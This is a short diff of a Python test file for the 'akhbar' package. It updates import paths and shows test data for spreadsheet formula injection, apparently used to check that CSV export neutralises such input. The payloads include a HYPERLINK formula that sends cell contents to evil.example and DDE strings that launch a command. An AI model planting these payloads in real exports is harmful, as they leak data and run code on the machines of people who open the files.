@@ -7,9 +7,9 @@ import json
 import pandas as pd
 
 import akhbar
-from akhbar import __main__ as cli
-from akhbar.export import to_corpus_csv, write_spans
-from akhbar.findings import findings, reading
+from akhbar.cli import main as cli
+from akhbar.io.export import to_corpus_csv, write_spans
+from akhbar.views.written import findings, reading
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 FORMULAS = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
